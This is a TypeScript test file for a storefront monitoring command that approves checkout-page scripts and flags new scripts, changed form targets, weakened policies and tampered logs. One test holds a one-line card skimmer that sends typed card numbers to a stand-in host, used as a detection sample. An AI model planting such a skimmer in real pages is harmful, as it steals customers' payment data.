// SPDX-License-Identifier: Apache-2.0
// `ensuresec storefront` without a browser: exit codes, approval, differences, what is kept.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { useSites } from '../storefront/site.ts';
import { ensuresec } from './terminal.ts';

const sites = useSites('shop', 'cdn');
const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true });
});
let cwd = '';
const run = (...argv: string[]) => ensuresec(['storefront', ...argv, '--static'], { cwd });
const WHO = ['--by', 'Ada', '--owner', 'Web team', '--reason', 'Takes payments'];
const POLICY = "default-src 'self'; form-action 'self'; report-to r";

const page = (head: string, action = '/pay') => `<!doctype html><title>Checkout</title>${head}
<form action="${action}"><input autocomplete="cc-number" name="card"><input autocomplete="cc-csc"></form>`;
const show = (body: string, headers: Readonly<Record<string, string>> = {}) =>
  sites.shop.pages.set('/checkout', {
    body,
    headers: { 'content-security-policy': POLICY, ...headers },
  });
const url = () => `${sites.shop.origin}/checkout`;
const CLEAN = '<script src="/app.js"></script><script>start(1)</script>';

beforeEach(() => {
  cwd = mkdtempSync(join(tmpdir(), 'storefront-'));
  folders.push(cwd);
  sites.shop.pages.set('/app.js', { body: 'console.log("app")' });
  show(page(CLEAN));
});

async function approve(...more: string[]): Promise<void> {
  const { code, stderr } = await run('approve', url(), '--page', 'checkout', ...WHO, ...more);
  expect([code, stderr]).toEqual([0, expect.stringContaining('Approved checkout: 2 scripts, by Ada')]);
}

describe('storefront check', () => {
  test.each([
    ['a page that nobody approved', () => [url()], 5],
    ['no page at all', () => [], 4],
    ['what is no address', () => ['checkout'], 2],
    ['a page that does not answer', () => ['http://127.0.0.1:9/'], 6],
  ])('%s', async (_, operands, code) => {
    expect((await run('check', ...operands())).code).toBe(code);
  });

  test('says nothing of a page that is as approved', async () => {
    await approve();
    const { code, stdout, stderr } = await run('check');
    expect([code, stderr]).toEqual([0, expect.not.stringContaining('Cannot')]);
    expect(stdout).toContain('✓ as approved on 2027-01-31');
  });

  test.each([
    ['an inline script', () => show(page(`${CLEAN}<script>steal()</script>`)), ['new-script']],
    [
      'a script of others',
      () => {
        sites.cdn.pages.set('/x.js', { body: 'x()' });
        show(page(`${CLEAN}<script src="${sites.cdn.origin}/x.js"></script>`));
      },
      ['new-script', 'new-destination', 'no-integrity'],
    ],
    ['another text', () => sites.shop.pages.set('/app.js', { body: 'other()' }), ['changed-script']],
    ['another target', () => show(page(CLEAN, `${sites.cdn.origin}/gate`)), ['form-target']],
    [
      'no policy',
      () => show(page(CLEAN), { 'content-security-policy': '' }),
      ['header-changed', 'policy-weaker', 'policy-absent'],
    ],
    [
      'a wider policy',
      () => show(page(CLEAN), { 'content-security-policy': `${POLICY}; script-src 'self' *` }),
      ['header-changed', 'policy-weaker', 'policy-wide'],
    ],
    ['a handler', () => show(page(`${CLEAN}<img src="/x" onerror="steal()">`)), ['new-script']],
    ['a script less', () => show(page('<script src="/app.js"></script>')), ['script-gone']],
    ['another field', () => show(`${page(CLEAN)}<input name="cc_number">`), ['new-field']],
    ['a frame', () => show(`${page(CLEAN)}<iframe src="${sites.cdn.origin}/f"></iframe>`), ['new-frame']],
  ])('tells %s', async (_, change, kinds) => {
    await approve();
    change();
    const { code, stdout } = await run('check', 'checkout', '--json', '--fail-on', 'low');
    const found = new Set(JSON.parse(stdout).checks[0].findings.map(({ kind }: { kind: string }) => kind));
    expect([...found].sort()).toEqual([...kinds].sort());
    expect(code).toBe(1);
  });

  test('takes a release that was approved before it came', async () => {
    await approve();
    writeFileSync(join(cwd, 'next.js'), 'console.log("next")');
    const script = `${sites.shop.origin}/app.js`;
    expect(
      (await run('approve', 'checkout', '--by', 'Bob', '--script', script, '--text', 'next.js')).code,
    ).toBe(0);
    sites.shop.pages.set('/app.js', { body: 'console.log("next")' });
    expect(await run('check')).toMatchObject({ code: 0 });
    sites.shop.pages.set('/app.js', { body: 'console.log("next");steal()' });
    expect((await run('check')).code).toBe(1);
  });

  test('takes other values in an approved program, and no other program', async () => {
    await approve('--accept-shape');
    show(page('<script src="/app.js"></script><script>start(2)</script>'));
    expect(await run('check')).toMatchObject({ code: 0 });
    show(page('<script src="/app.js"></script><script>start(steal())</script>'));
    expect((await run('check')).code).toBe(1);
  });

  test('keeps what it received, and makes events', async () => {
    await approve();
    show(page(`${CLEAN}<script>steal("\u001b[2J")</script>`));
    const { stdout } = await run('check', '--events', 'pages.ndjson', '--asset', 'web');
    expect(stdout).not.toContain('\u001b[2J');
    const [event] = readFileSync(join(cwd, 'pages.ndjson'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(event).toMatchObject({
      type: 'page.observed',
      page: 'checkout',
      asset: 'web',
      data: { change: 'new-script', approved: false },
    });
    const checks = readFileSync(join(cwd, 'storefront/checks.ndjson'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(checks.map(({ outcome }) => outcome)).toEqual(['not-approved', 'changed']);
    expect(readdirSync(join(cwd, 'storefront/captures'))).toContain(`${checks[1].capture.slice(7)}.json`);
  });

  test('makes events of which rules make an incident', { timeout: 30_000 }, async () => {
    await approve();
    show(page(CLEAN, `${sites.cdn.origin}/gate`));
    await run('check', '--events', 'pages.ndjson');
    show(page(`${CLEAN}<script>steal()</script>`));
    await run('check', '--events', 'pages.ndjson');
    const argv = ['detect', 'pages.ndjson', '--json', '--incidents'];
    const { code, stdout } = await ensuresec(argv, { cwd });
    expect(code).toBe(1);
    expect(stdout).toContain('e-commerce/detection/unapproved-script');
    expect(stdout).toContain('e-commerce/detection/fake-payment-form');
    expect(stdout).toContain('ensuresec/incident/');
  });

  test('says with an event that nothing changed, and no rule minds', { timeout: 30_000 }, async () => {
    await approve();
    await run('check', '--events', 'pages.ndjson');
    expect(readFileSync(join(cwd, 'pages.ndjson'), 'utf8')).toContain('"change":"none"');
    expect((await ensuresec(['detect', 'pages.ndjson'], { cwd })).code).toBe(0);
  });

  test.each([
    [
      'report-uri',
      {
        'csp-report': {
          'document-uri': 'https://shop.example/pay',
          'blocked-uri': 'https://t.example/x',
          'violated-directive': 'script-src-elem',
        },
      },
      1,
    ],
    [
      'report-to',
      [
        {
          type: 'csp-violation',
          age: 1,
          url: 'https://shop.example/pay',
          user_agent: 'x',
          body: {
            documentURL: 'https://shop.example/pay',
            blockedURL: 'https://t.example/x',
            effectiveDirective: 'connect-src',
          },
        },
      ],
      1,
    ],
    [
      'an extension',
      {
        'csp-report': {
          'document-uri': 'https://shop.example/pay',
          'blocked-uri': 'chrome-extension',
          'violated-directive': 'script-src-elem',
        },
      },
      0,
    ],
  ])('reads what browsers report: %s', async (_, report, code) => {
    writeFileSync(join(cwd, 'reports.json'), JSON.stringify(report));
    const ended = await ensuresec(['detect', 'reports.json', '--fail-on', 'medium', '--alerts'], { cwd });
    expect([ended.code, ended.stdout]).toEqual([
      code,
      code === 1 ? expect.stringContaining('policy-report') : expect.any(String),
    ]);
  });

  test('refuses a log in which a line was changed', async () => {
    await approve();
    await run('check');
    const file = join(cwd, 'storefront/checks.ndjson');
    writeFileSync(file, readFileSync(file, 'utf8').replace('"not-approved"', '"as-approved"'));
    const { code, stderr } = await run('check');
    expect([code, stderr]).toEqual([3, expect.stringContaining('checks.ndjson:2:1')]);
  });
});

describe('storefront approve', () => {
  test('asks who and why', async () => {
    const { code, stderr } = await run('approve', url(), '--by', 'Ada');
    expect([code, stderr]).toEqual([2, expect.stringContaining('--owner, --reason are missing')]);
  });

  test('approves no sign of an attack unless it is known', async () => {
    const skimmer = `document.querySelector("[autocomplete=cc-number]").oninput=e=>new Image().src="https://js-cdn.example/g?"+e.target.value`;
    show(page(`${CLEAN}<script>${skimmer}</script>`));
    expect((await run('approve', url(), ...WHO)).code).toBe(1);
    expect((await run('check', url())).stdout).toContain('reads secrets and sends');
    expect((await run('approve', url(), ...WHO, '--known')).code).toBe(0);
  });

  test('keeps owner and reason of scripts that were approved before', async () => {
    await approve();
    show(page(`${CLEAN}<script>more()</script>`));
    await run('approve', 'checkout', '--by', 'Bob', '--owner', 'Marketing', '--reason', 'Counts');
    const { pages } = JSON.parse(readFileSync(join(cwd, 'storefront/inventory.json'), 'utf8'));
    expect(pages[0].scripts.map(({ owner, by }: { owner: string; by: string }) => [owner, by])).toEqual([
      ['Web team', 'Ada'],
      ['Web team', 'Ada'],
      ['Marketing', 'Bob'],
    ]);
  });
});
